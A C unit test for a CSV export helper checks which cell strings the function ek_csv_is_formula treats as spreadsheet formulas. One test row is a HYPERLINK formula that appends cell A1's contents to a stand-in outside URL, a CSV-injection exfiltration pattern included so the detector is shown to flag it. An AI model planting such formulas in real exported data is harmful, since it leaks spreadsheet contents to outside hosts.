/* SPDX-License-Identifier: GPL-3.0-or-later */

#include "ek-csv.h"

static void
test_formula (void)
{
  static const struct {
    const char *text;
    gboolean formula;
  } rows[] = {
    { "", FALSE },
    { "Sleep", FALSE },
    { "6.5", FALSE },
    { "-6.5", FALSE },
    { "+3", FALSE },
    { "-1e-3", FALSE },
    { "=HYPERLINK(\"https://elsewhere.example/?\"&A1)", TRUE },
    { "=1", TRUE },
    { "+1+1", TRUE },
    { "-1-1", TRUE },
    { "-", TRUE },
    { "@SUM(A1)", TRUE },
    { "\t=1", TRUE },
    { "\r=1", TRUE },
    { "-2 points", TRUE },
    { "a=b", FALSE },
  };

  for (guint i = 0; i < G_N_ELEMENTS (rows); i++)
    g_assert_cmpint (ek_csv_is_formula (rows[i].text), ==, rows[i].formula);
}

int
main (int argc, char **argv)
{
  g_test_init (&argc, &argv, NULL);
  g_test_add_func ("/csv/formula", test_formula);
  return g_test_run ();
}
